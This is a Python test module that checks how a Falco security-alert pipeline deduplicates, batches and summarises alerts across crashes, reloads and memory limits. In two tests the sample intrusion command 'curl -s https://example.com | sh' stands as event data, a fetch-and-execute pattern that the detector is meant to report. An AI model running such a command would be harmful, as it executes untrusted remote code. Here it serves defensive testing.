"""The contract of deduplication, for any interleaving of groups and variants, batches, crashes, reloads, takeovers."""

from __future__ import annotations

import re
from collections import defaultdict
from collections.abc import Sequence
from typing import Any, Final

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from streamer.model import Record
from tests.unit.transform.course import LIMITS, Course, Event, outcomes, treated
from tests.unit.transform.samples import FALCO, SECOND_NS

_STEPS_NS: Final = [
    round(seconds * SECOND_NS)
    for seconds in (0, 0, 0.001, 1, 5, 5, 20, 59, 61, 71, 290, 1799, 3600, -0.2, -11, -3600)
]
_PLANS: Final = [
    treated(),
    treated(LIMITS),
    treated({**LIMITS, "rate_per_minute": 0.01, "burst": 1}),
    treated(window_seconds=[7, 20]),
    treated(max_variants=0),
    treated(max_variants=10),
    treated(variant_fields={"syscall": ["proc.cmdline", "proc.exe"]}),
    treated(overrides=[{"rules": ["Terminal*"], "max_variants": 1}]),
    treated(enabled=False),
    treated(LIMITS, max_windows=2),
    treated(max_evidence_bytes=1500),
]
_DETERMINED: Final = _PLANS[:9]
"""What memory's bounds push out depends on the batches."""
_EVENTS: Final = st.builds(
    Event,
    st.sampled_from([0, 0, 0, 1]),
    st.sampled_from(_STEPS_NS),
    st.sampled_from("ab"),
    st.sampled_from("stuvwxyz"),
    st.sampled_from(["Notice", "Notice", "Debug", "Critical", "Emergency"]),
)
_STREAMS: Final = st.lists(_EVENTS, max_size=25)


@st.composite
def courses(draw: st.DrawFn) -> Course:
    """A course of any events, to its end."""
    course = Course(draw(st.sampled_from(_PLANS)))
    for _ in range(draw(st.integers(1, 8))):
        course.write(draw(_STREAMS), batches=draw(st.integers(1, 4)), crash=draw(st.booleans()))
        happens = draw(
            st.sampled_from(
                [
                    "nothing",
                    "crash",
                    "reload",
                    "silence",
                    "ticks",
                    "reload and crash",
                    "clock",
                    "clock and crash",
                ]
            )
        )
        if "clock" in happens:
            course.set_clock_back(draw(st.sampled_from([5, 3600])), crash="crash" in happens)
        elif "crash" in happens and "reload" not in happens:
            course.take_over()
        if happens == "ticks":
            course.tick(draw(st.sampled_from([1, 10, 75])))
        if "reload" in happens:
            course.reload(draw(st.sampled_from(_PLANS)))
            if "crash" in happens:
                course.take_over()
        if happens == "silence":
            course.wait(draw(st.sampled_from([1, 61, 75, 400])))
    course.end()
    return course


@settings(max_examples=150)
@given(courses())
def test_evidence_is_shown_in_time_and_every_counted_alert_is_in_one_summary(course: Course) -> None:
    """The judge has held each publication to the contract; here is what remains to be said at the end."""
    alerts = [record for record in course.records if record.topic.startswith("falco.alerts.")]
    assert {dict(record.headers)["kind"] for record in alerts} <= {b"alert"}
    assert len({record.id for record in course.records}) == len(course.records)


@settings(max_examples=60)
@given(st.lists(_STREAMS, min_size=1, max_size=4), st.data())
def test_the_same_log_in_other_batches_gives_the_same_records(
    parts: list[list[Event]], data: st.DataObject
) -> None:
    """Batches, transactions, crashes and takeovers decide nothing: it is the log that does."""
    plan = data.draw(st.sampled_from(_DETERMINED))
    events = [event for part in parts for event in part]
    at_once, in_parts = Course(plan), Course(plan)
    at_once.write(events)
    for part in parts:
        in_parts.write(part, batches=data.draw(st.integers(1, 5)), crash=data.draw(st.booleans()))
        if data.draw(st.booleans()):
            in_parts.take_over()
    at_once.end()
    in_parts.end()
    assert by_target(in_parts.records) == by_target(at_once.records)


@settings(max_examples=40)
@given(st.lists(_STREAMS, min_size=1, max_size=3))
def test_public_ids_are_the_same_under_any_key_and_for_any_pod_of_falco(parts: list[list[Event]]) -> None:
    one, other, moved = Course(key=b"1" * 16), Course(key=b"2" * 16), Course()
    for course in (one, other, moved):
        for part in parts:
            course.write(
                [event._replace(target=1 - event.target) for event in part] if course is moved else part
            )
        course.end()
    assert sorted(public_ids(one)) == sorted(
        public_ids(other)
    )  # what is due at once is in the order of the keys
    assert sorted(public_ids(one)) == sorted(public_ids(moved))


def test_each_new_variant_of_a_protected_priority_is_published_at_once() -> None:
    """The slow intrusion of a Critical rule: one distinct command line every 5 s for 40 min."""
    for priority in ("Critical", "Alert", "Emergency"):
        course = Course()
        course.write([Event(0, 5 * SECOND_NS, "sh", f"{n}", priority) for n in range(480)], batches=7)
        assert len(course.values("alert")) == 480
        course.end()


def test_a_priority_that_the_settings_protect_is_treated_as_the_three_that_always_are() -> None:
    course = Course(treated({"protected": ["emergency", "alert", "critical", "notice"]}))
    course.write([Event(0, 5 * SECOND_NS, "sh", f"{n}", "Notice") for n in range(50)])
    assert len(course.values("alert")) == 50
    course.end()


def test_exact_repeats_of_a_protected_priority_are_counted() -> None:
    course = Course()
    course.write([Event(0, SECOND_NS, "sh", "a", "Critical")] * 50)
    assert len(course.values("alert")) == 1
    course.end()
    assert sum(value["summary"]["count"] for value in course.values("summary")) == 49


def test_variants_beyond_the_first_ones_are_reported_within_a_minute_in_a_busy_group() -> None:
    """Half an hour of the same, some variants, then what it was all for: the window has 30 min by then."""
    course = Course()
    course.write([Event(0, 20 * SECOND_NS, "sh", "health", "Notice")] * 100)
    course.write([Event(0, SECOND_NS, "sh", f"{n}", "Notice") for n in range(10)])
    course.write([Event(0, SECOND_NS, "sh", "curl -s https://example.com | sh", "Notice")])
    before = len(course.records)
    course.wait(70)
    shown = {
        fields["proc.cmdline"] for record in course.records[before - 1 :] for fields in fields_of(record)
    }
    assert "curl -s https://example.com | sh" in shown
    course.end()


def test_a_slow_intrusion_is_reported_while_it_goes_on() -> None:
    """One distinct command line every 5 s for 40 min, of a priority that nothing protects."""
    course = Course()
    for n in range(480):
        course.write([Event(0, 5 * SECOND_NS, "sh", f"{n}", "Notice")])  # the judge knows when each is due
        course.tick(5)
    course.end()
    assert len(course.values("summary")) <= 41, "one a minute"


@pytest.mark.parametrize("crash", [True, False])
def test_evidence_is_in_time_though_our_clock_is_set_back(crash: bool) -> None:
    course = Course()
    course.write([Event(0, SECOND_NS, "sh", f"{n}", "Notice") for n in range(9)])
    course.tick(5)
    course.set_clock_back(3600, crash=crash)
    course.end()


@pytest.mark.parametrize("seconds", [0, 75])
def test_what_is_counted_does_not_depend_on_when_it_was_reported(seconds: int) -> None:
    """A long alert is counted only where its like was seen in the window: be that reported by now, or not yet."""
    course = Course(treated(volatile_fields=["evt.*", "proc.env"]))
    course.write([Event(0, SECOND_NS, "sh", f"{n}", "Notice") for n in range(9)])
    course.wait(seconds)
    before = len(course.values("alert"))
    course.write([Event(0, SECOND_NS, "sh", "8", "Notice")], padding=9000)
    assert len(course.values("alert")) == before
    course.end()


def test_a_summary_names_what_is_new_in_its_text() -> None:
    course = Course()
    course.write([Event(0, SECOND_NS, "sh", f"health {n % 3}", "Notice") for n in range(12)])
    course.write([Event(0, SECOND_NS, "sh", "curl -s https://example.com | sh", "Notice")])
    course.tick(75)
    [value] = course.values("summary")
    assert '1 new: proc.cmdline="curl -s https://example.com | sh"' in value["output"]
    assert [one["new"] for one in value["summary"]["variants"]] == [True, False, False, False]
    course.end()


class TestMemoryBounds:
    def test_hold_for_the_deadlines_of_what_was_evicted_where_the_clock_stands_still(self) -> None:
        course = Course(treated(max_windows=50, max_variants=0))
        for group in range(3000):
            course.write([Event(0, 0, f"{group}", f"{n}", "Notice") for n in range(2)])
        windows = course.processor.state.tracked[FALCO.id].windows
        assert len(windows._evidence) < 200
        assert course.processor.state.ledger.deduplicated == 3000
        course.end()

    def test_never_hold_back_evidence_of_a_protected_priority(self) -> None:
        """A window forgets the oldest of the variants that it has shown: these are published again."""
        course = Course()
        for n in [*range(1500), *range(1500)]:
            course.write([Event(0, 0, "sh", f"{n}", "Critical")])
        assert len(course.values("alert")) == 3000
        assert course.processor.state.tracked[FALCO.id].windows.window_bytes < 17_000

    def test_hold_for_what_all_windows_have_shown(self) -> None:
        """Many groups of many variants each: windows take half a kilobyte on average at most."""
        course = Course(treated(max_windows=1000))
        for group in range(85):
            course.write([Event(0, 0, f"{group}", f"{n}", "Critical") for n in range(900)])
            state = course.processor.state
            windows = state.tracked[FALCO.id].windows
            packed = [window.pack() for group in windows if (window := windows.get(group))]
            assert windows.window_bytes == state.usage.window_bytes == sum(map(len, packed)) <= 1024 * 1024
            assert course.processor.state.ledger.published == 900 * (group + 1)


def test_long_windows_hold_back_exact_repeats_alone() -> None:
    """Three hours of the same five variants are eight windows: what was shown is not reported again each minute."""
    course = Course()
    noise = [Event(0, 2 * SECOND_NS, "sh", name, "Notice") for name in "abcde"]
    course.write(noise * 6 * 180)
    course.end()
    found = outcomes(course.records)
    key = FALCO.pod_name.encode()
    assert found[key, "alert"] <= 8 * 3
    assert found[key, "summary"] <= 8 * 2 + 2


@pytest.mark.parametrize("priority", ["Notice", "Critical"])
def test_a_summary_says_what_was_counted_with_typed_fields_and_true_times(priority: str) -> None:
    course = Course()
    course.write([Event(0, SECOND_NS, "sh", "a", priority)] * 3)
    course.write([Event(0, SECOND_NS, "sh", name, priority) for name in "bcdde"])
    course.end()
    summaries = [value["summary"] for value in course.values("summary")]
    assert summaries
    for summary in summaries:
        assert re.fullmatch(r"[0-9a-f]{32,64}", summary["group"])
        for variant in summary["variants"]:
            assert variant.keys() >= {"id", "fields", "count", "first_seen", "last_seen"}
            assert re.fullmatch(r"[0-9a-f]{32,64}", variant["id"])
            assert type(variant["count"]) is int
            assert summary["first_seen"] <= variant["first_seen"] <= variant["last_seen"]
    assert len({summary["group"] for summary in summaries}) == 1


def by_target(records: Sequence[Record]) -> dict[tuple[bytes, bytes], list[Record]]:
    """The alerts and the summaries of each target; when a storm is reported is up to the batches."""
    found = defaultdict[tuple[bytes, bytes], list[Record]](list)
    for record in records:
        if (kind := dict(record.headers)["kind"]) in {b"alert", b"summary"}:
            found[record.key, kind].append(record)
    for (_, kind), mine in found.items():
        if kind == b"summary":  # windows that end at one time have no order
            mine.sort(key=lambda record: record.id)
    return dict(found)


def public_ids(course: Course) -> list[Any]:
    """The ids of groups and variants, in the order of the summaries."""
    return [
        (value["summary"]["group"], [variant["id"] for variant in value["summary"]["variants"]])
        for value in course.values("summary")
    ]


def fields_of(record: Record) -> list[dict[str, Any]]:
    """The fields of each variant that a record shows."""
    value = orjson.loads(record.value)
    variants = value["summary"]["variants"] if "summary" in value else [{"fields": {}}]
    return [value["output_fields"] | variant["fields"] for variant in variants]
